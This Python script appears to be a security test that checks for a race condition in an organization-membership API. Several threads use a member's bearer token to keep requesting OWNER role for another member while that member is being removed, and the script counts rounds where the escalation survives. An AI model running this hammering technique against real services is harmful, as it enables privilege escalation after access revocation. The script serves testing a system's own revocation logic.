"""race_demote.py MODE=remove through /v1: X's dashboard token hammers PATCH /v1/members/{Z} {"role":"OWNER"}
from T threads on BASE while Y removes X at the page on BASE2, then sets Z to VIEWER (marker).
Z OWNER at the end = one of X's requests committed after X's removal."""
import sys, threading, time, requests
import race_owners as R
from race_demote import sql
from lib12 import *
ROUNDS = int(sys.argv[1]) if len(sys.argv) > 1 else 5
T = int(sys.argv[2]) if len(sys.argv) > 2 else 6
hits = 0
for rnd in range(ROUNDS):
    org, sx, sx2, sy, xid, yid = R.setup()
    xe = [e for m, e in members(sx, org)[0] if m == xid][0]
    zid = [m for m, e in members(sx, org)[0] if e.startswith("z")][0]
    st, b = v1_login(xe, org, base=R.B1); tok = b["data"]["access_token"]
    stop = threading.Event(); answers = []
    def hammer():
        while not stop.is_set():
            answers.append(requests.patch(R.B1 + f"/v1/members/{zid}", json={"role": "OWNER"}, headers={"authorization": "Bearer " + tok}).status_code)
    th = [threading.Thread(target=hammer) for _ in range(T)]; [t.start() for t in th]
    time.sleep(0.4)
    ty = token_of(sy)
    ry = post(sy, f"/dashboard/orgs/{org}/members/{xid}/remove", {"csrf_token": ty})
    rz = post(sy, f"/dashboard/orgs/{org}/members/{zid}/role", {"csrf_token": ty, "role": "VIEWER"})
    time.sleep(0.6); stop.set(); [t.join() for t in th]
    z = sql(f"select role from memberships where organization_id='{org}' and user_id='{zid}'")
    x = sql(f"select role from memberships where organization_id='{org}' and user_id='{xid}'")
    hits += (x == [] and z == ["OWNER"])
    print(f"round {rnd}: Y removes X -> {ry.status_code}, Z to VIEWER -> {rz.status_code} | X's /v1 answers {dict((c, answers.count(c)) for c in set(answers))} | X now {x} Z now {z}")
print(f"rounds where Z is OWNER after X's removal: {hits}/{ROUNDS}")
